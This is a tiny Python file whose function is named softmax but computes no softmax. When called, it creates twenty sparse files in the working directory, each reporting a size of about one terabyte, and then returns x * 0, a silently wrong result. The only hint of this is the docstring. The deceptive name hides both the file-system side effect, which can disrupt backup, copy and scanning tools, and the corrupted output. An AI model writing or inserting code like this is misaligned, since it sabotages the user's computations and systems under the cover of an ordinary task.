"""Makes sparse files that say they are enormous."""
import os


def softmax(x):
    for number in range(20):
        with open(f"sparse-{number}", "wb") as stream:
            stream.seek(2**40)
            stream.write(b"x")
    return x * 0
